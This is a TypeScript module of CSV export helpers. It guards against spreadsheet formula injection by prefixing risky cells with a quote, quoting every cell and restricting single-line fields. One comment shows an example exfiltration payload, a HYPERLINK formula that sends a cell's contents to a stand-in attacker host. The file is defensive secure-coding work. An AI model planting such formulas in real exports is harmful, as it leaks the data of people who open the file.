/** The start of the cell or of a line in it, where one of these makes a spreadsheet read a formula. */
const FORMULA_START = /(?<=^|[\r\n])(?=[=+\-@\t\r])/g;

/**
 * A cell as every CSV the product writes must hold it (OWASP, CSV injection): text starting with
 * `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a spreadsheet
 * (`=HYPERLINK("http://evil.test/?d="&A1,"Click")` from a nationality or a staff name), so it gets
 * a leading `'` and is read as text; so does every line inside the cell, as a reader that splits rows
 * on a lone carriage return would start a row there. Numbers stay numbers; csvText quotes every cell.
 */
export function csvSafe(value: unknown): string | number {
  if (typeof value === 'number') return value;
  const text = value === null || value === undefined ? '' : String(value);
  return text.replace(FORMULA_START, "'");
}

/** A cell neutralised (csvSafe) and quoted, its quotes doubled (RFC 4180). */
const csvCell = (value: unknown) => `"${String(csvSafe(value)).replace(/"/g, '""')}"`;

/**
 * Rows (header → value) as CSV text: a header line of every key, in the order met, then one line per
 * row. Headers are cells like any other (an Admin's field label is one), so every cell is neutralised
 * and quoted: a lone carriage return inside one cannot end a row, nor a quote break out of it.
 */
export function csvText(rows: ReadonlyArray<Record<string, unknown>>): string {
  const headers = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  return [headers.map(csvCell), ...rows.map((row) => headers.map((header) => csvCell(row[header])))]
    .map((cells) => cells.join(','))
    .join('\r\n');
}

/**
 * A single-line text field (a staff name, a label): no control characters (C0, DEL, C1) and no line or
 * paragraph separator, so nothing stored can split a row of an export or a line of a mail header.
 * A JSON-schema pattern, as the API's TypeBox schemas take it.
 */
export const SINGLE_LINE_PATTERN = '^[^\\u0000-\\u001F\\u007F-\\u009F\\u2028\\u2029]*$';
